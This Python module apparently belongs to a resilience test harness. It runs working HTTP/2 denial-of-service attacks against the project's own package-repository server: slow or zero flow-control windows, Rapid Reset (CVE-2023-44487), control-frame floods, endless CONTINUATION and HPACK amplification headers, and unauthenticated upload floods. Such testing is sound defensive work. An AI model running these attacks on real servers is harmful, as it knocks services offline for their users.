"""HTTP/2 used to make the server hold, or do, more than was sent."""

import contextlib
import itertools
import socket
import struct

from abuse import http2, probes, service, wire
from abuse.attack import Attack, Tally, Target, in_threads

STREAMS = 100
BIG_NAME, BIG_BYTES = "big-file", 5_000_000
TINY_RECEIVE_BYTES = 2048


def _big_path(target: Target) -> str:
    """A file of 5 MB of a user who may write; uploaded once."""
    name, content = probes.forged_deb.honest(f"{BIG_NAME}-{target.number}", BIG_BYTES)
    user = service.attackers()[0]
    wire.upload(
        target.address, service.ATTACKED_DEB, [(name, content)], user=user, product="big", query="?wait=30", source=target.source(9)
    )
    kind, series, distribution, codename = service.ATTACKED_DEB.split("/")
    return f"/{kind}/{series}/{distribution}/pool/{codename}/main/b/big/{name}"


def _held_streams(
    target: Target, tally: Tally, connections: int, paths: list[str], window: int, *, drips: bool = False, per_address: int = 64
) -> None:
    """Connections whose streams ask for the paths and take `window` bytes of each; then nothing, or a byte now and then."""
    opened: list[socket.socket] = []
    values = {http2.ENABLE_PUSH: 0, http2.MAX_CONCURRENT_STREAMS: 100, http2.INITIAL_WINDOW_SIZE: window}
    turn = itertools.cycle(paths)
    with contextlib.ExitStack() as stack:
        while len(opened) < connections and not target.over:
            try:
                connection = stack.enter_context(
                    contextlib.closing(http2.start(target.address, values, target.source(len(opened) // per_address)))
                )
                asked = b"".join(http2.ask(1 + 2 * number, "GET", next(turn)) for number in range(STREAMS))
                connection.sendall(asked)
            except OSError as error:
                tally.count(type(error).__name__)
                target.wait(0.05)
                continue
            opened.append(connection)
            tally.count("held")
        # What keeps a connection from being idle, and a stream from being stalled, costs the attacker nothing.
        alive = http2.frame(http2.PING, 0, 0, bytes(8))
        if drips:
            alive = http2.window_update(0, STREAMS) + b"".join(http2.window_update(1 + 2 * number, 1) for number in range(STREAMS))
        while not target.over:
            target.wait(2)
            for connection in opened:
                with contextlib.suppress(OSError):
                    connection.sendall(alive)
        closed = sum(not _is_open(connection) for connection in opened)
        tally.note(f"{len(opened)} connections, {closed} of them closed by the server at the end")


def _is_open(connection: socket.socket) -> bool:
    connection.settimeout(0.01)
    with contextlib.suppress(TimeoutError, OSError):
        while received := connection.recv(wire.READ_BYTES):
            if not received:
                return False
        return False
    try:
        connection.sendall(http2.frame(http2.PING, 0, 0, bytes(8)))
    except OSError:
        return False
    return True


def one_byte_windows(target: Target, tally: Tally) -> None:
    _held_streams(target, tally, 40 if target.short else 800, [_big_path(target)], 1)


def dripping_windows(target: Target, tally: Tally) -> None:
    """A byte more for each stream every two seconds: nothing ever stalls, and nothing ends."""
    _held_streams(target, tally, 20 if target.short else 400, [_big_path(target), "/-/openapi.json"], 1, drips=True)


def windows_of_many(target: Target, tally: Tally) -> None:
    """One connection of each address."""
    _held_streams(target, tally, 40 if target.short else 1500, [_big_path(target)], 1, per_address=1)


def closed_windows(target: Target, tally: Tally) -> None:
    """A window of zero: the answer cannot begin."""
    paths = [_big_path(target), "/-/openapi.json", "/live/1.10/ubuntu/?recursive=1", "/-/status", "/-/repositories", "/-/metrics", "/"]
    _held_streams(target, tally, 20 if target.short else 600, paths, 0)


def opened_then_stalled(target: Target, tally: Tally) -> None:
    """Large windows, and a client that never reads: what is on its way fills the buffers of both kernels, then the server's."""
    path = _big_path(target)
    count = 20 if target.short else 400
    opened: list[socket.socket] = []
    values = {http2.INITIAL_WINDOW_SIZE: http2.MAX_WINDOW, http2.MAX_FRAME_SIZE: (1 << 24) - 1}
    while len(opened) < count and not target.over:
        try:
            connection = http2.start(target.address, values, target.source(len(opened) // 64), TINY_RECEIVE_BYTES)
            asked = b"".join(http2.ask(1 + 2 * number, "GET", path) for number in range(STREAMS))
            connection.sendall(http2.window_update(0, http2.MAX_WINDOW - 65_535) + asked)
            opened.append(connection)
            tally.count("held")
        except OSError as error:
            tally.count(type(error).__name__)
            target.wait(0.05)
    target.wait(target.left())


def rapid_reset(target: Target, tally: Tally) -> None:
    """Requests that are taken back at once (CVE-2023-44487), of what costs most."""
    paths = itertools.cycle(["/live/?recursive=1", "/-/repositories", _big_path(target), "/-/metrics"])

    def one(number: int) -> None:
        rounds = 20 if target.short else 1 << 30
        while rounds and not target.over:
            with contextlib.suppress(OSError), contextlib.closing(http2.start(target.address, {}, target.source(number))) as connection:
                for first in itertools.count(1, 400):
                    streams = range(first, first + 400, 2)
                    connection.sendall(b"".join(http2.ask(stream, "GET", next(paths)) + http2.reset(stream) for stream in streams))
                    tally.count("reset", len(streams))
                    rounds -= 1
                    if target.over or not rounds:
                        break
            target.wait(0.02)

    in_threads(4 if target.short else 16, one)


def control_frames(target: Target, tally: Tally) -> None:
    """Settings, pings, empty data, priorities and window updates, each of which wants an answer or work; answers are not read."""
    ping, setting = http2.frame(http2.PING, 0, 0, bytes(8)), http2.settings({http2.INITIAL_WINDOW_SIZE: 65_535})
    empty = http2.frame(http2.DATA, 0, 1)
    priority = http2.frame(http2.PRIORITY, 0, 3, struct.pack(">IB", 1, 1))
    kinds = [ping * 2000, setting * 2000, empty * 2000, priority * 2000, http2.window_update(0, 1) * 2000]

    def one(number: int) -> None:
        burst = kinds[number % len(kinds)]
        bursts = 20 if target.short else 1 << 30
        while bursts and not target.over:
            try:
                with contextlib.closing(http2.start(target.address, {}, target.source(number), TINY_RECEIVE_BYTES)) as connection:
                    connection.settimeout(5)
                    connection.sendall(http2.ask(1, "PUT", f"/{service.ATTACKED_DEB}", ends=False))
                    while bursts and not target.over:
                        connection.sendall(burst)
                        bursts -= 1
                        tally.count("bursts")
            except OSError as error:
                bursts -= 1
                tally.count(type(error).__name__)
                target.wait(0.2)

    in_threads(10 if target.short else 40, one)


def endless_headers(target: Target, tally: Tally) -> None:
    """CONTINUATION without end, header lists that the dynamic table repeats, and large headers on many streams."""
    value = "v" * 4000
    large = http2.block("GET", "/-/health", {f"x-{number}": value for number in range(14)})
    table = http2.indexed_literal("x-repeated", value)
    # 0xBE is the newest entry of the dynamic table (RFC 7541, 6.1): a byte that stands for four thousand.
    repeated = http2.block("GET", "/-/health") + table + b"\xbe" * 16_000

    def without_end(connection: socket.socket) -> None:
        connection.sendall(http2.frame(http2.HEADERS, 0, 1, http2.block("GET", "/-/health")))
        for _ in range(50 if target.short else 2000):
            connection.sendall(http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x-more", value) * 4))

    def stalled(connection: socket.socket) -> None:
        for stream in range(1, 200, 2):
            connection.sendall(http2.frame(http2.HEADERS, 0, stream, large[:16_000]))

    def whole(connection: socket.socket) -> None:
        for stream in range(1, 200, 2):
            connection.sendall(
                http2.frame(http2.HEADERS, 0, stream, large[:16_000]) + http2.frame(http2.CONTINUATION, 4, stream, large[16_000:])
            )

    def repeat(connection: socket.socket) -> None:
        for stream in range(1, 200, 2):
            connection.sendall(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, repeated))

    def unread_bodies(connection: socket.socket) -> None:
        headers = {f"x-{number}": value for number in range(12)}
        for stream in range(1, 200, 2):
            connection.sendall(_long_ask(stream, "PUT", f"/{service.ATTACKED_DEB}", headers))

    ways = [without_end, stalled, whole, repeat, unread_bodies]

    def one(number: int) -> None:
        rounds = 2 if target.short else 1 << 30
        while rounds and not target.over:
            rounds -= 1
            try:
                with contextlib.closing(http2.start(target.address, {}, target.source(number))) as connection:
                    connection.settimeout(5)
                    ways[number % len(ways)](connection)
                    tally.count(ways[number % len(ways)].__name__)
                    target.wait(1 if target.short else 5)
            except OSError as error:
                tally.count(f"{ways[number % len(ways)].__name__}: {type(error).__name__}")
                target.wait(0.1)

    in_threads(10 if target.short else 60, one)


def _long_ask(stream: int, method: str, path: str, headers: dict[str, str]) -> bytes:
    """A request without an end whose headers need CONTINUATION."""
    block = http2.block(method, path, headers)
    pieces = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
    framed = [
        http2.frame(http2.CONTINUATION if number else http2.HEADERS, http2.END_HEADERS if number == len(pieces) - 1 else 0, stream, piece)
        for number, piece in enumerate(pieces)
    ]
    return b"".join(framed)


def bodies_behind_logins(target: Target, tally: Tally) -> None:
    """Bodies as large as the windows, of uploads whose login is refused, queued or missing."""
    guesses = itertools.count()
    body = bytes(16_000)
    paths = [
        f"/{service.ATTACKED_DEB}",
        f"/-/incoming/{service.ATTACKED_DEB}/p/x_1_amd64.deb",
        f"/-/metadata/{service.ATTACKED_RPM}/x86_64/comps",
    ]

    def one(number: int) -> None:
        rounds = 1 if target.short else 1 << 30
        while rounds and not target.over:
            rounds -= 1
            try:
                with contextlib.closing(http2.start(target.address, {}, target.source(number))) as connection:
                    connection.settimeout(5)
                    for stream in range(1, 2 * STREAMS, 2):
                        guess = wire.User(f"attacker-{number % 8}" if number % 2 else "nobody", f"wrong {next(guesses)}")
                        headers = {
                            "content-type": "multipart/form-data; boundary=x",
                            **({"authorization": guess.basic} if number % 3 else {}),
                        }
                        connection.sendall(http2.ask(stream, "PUT", paths[number % 3], headers, ends=False))
                        # As much as the initial window of a stream takes, whether it was widened or not.
                        connection.sendall(b"".join(http2.frame(http2.DATA, 0, stream, body) for _ in range(4)))
                        tally.count("bodies")
                    http2.read_frames(connection, 2 if target.short else 20)
            except OSError as error:
                tally.count(type(error).__name__)
                target.wait(0.1)

    in_threads(10 if target.short else 120, one)


def flooding_bodies(target: Target, tally: Tally) -> None:
    """One stream for each upload without a login, and data for as long as the server's windows let it through."""

    def one(number: int) -> None:
        sent = 0
        most = (4 << 20) if target.short else 1 << 40
        while sent < most and not target.over:
            try:
                with contextlib.closing(http2.start(target.address, {}, target.source(number))) as connection:
                    connection.settimeout(3)
                    for stream in range(1, 2 * STREAMS, 2):
                        connection.sendall(http2.ask(stream, "PUT", f"/-/incoming/{service.ATTACKED_DEB}/p/x_1_amd64.deb", ends=False))
                    for stream in itertools.cycle(range(1, 2 * STREAMS, 2)):
                        connection.sendall(http2.frame(http2.DATA, 0, stream, bytes(16_384)))
                        sent += 16_384
                        if target.over or sent >= most:
                            break
            except OSError as error:
                tally.count(type(error).__name__)
                sent += 1 << 20
                target.wait(0.05)
        tally.count("megabytes", sent >> 20)

    in_threads(8 if target.short else 40, one)


ATTACKS = [
    Attack("h2-window-1", "many streams of a large file with a window of one byte", one_byte_windows, short=True),
    Attack("h2-window-0", "many streams of all kinds of answers with a closed window", closed_windows, short=True),
    Attack("h2-window-drip", "windows that grow by a byte every two seconds", dripping_windows, short=True),
    Attack("h2-window-addresses", "windows of one byte, each connection of an address of its own", windows_of_many),
    Attack("h2-stalled", "many streams with large windows that are not read", opened_then_stalled, short=True),
    Attack("h2-rapid-reset", "requests that are taken back at once", rapid_reset, short=True),
    Attack("h2-control-frames", "pings, settings, empty data, whose answers are not read", control_frames, short=True),
    Attack("h2-headers", "headers without end, or repeated out of the table", endless_headers, short=True),
    Attack("h2-bodies-logins", "bodies behind refused and queued logins", bodies_behind_logins, short=True),
    Attack("h2-bodies-flood", "bodies without login as fast as they are let through", flooding_bodies),
]
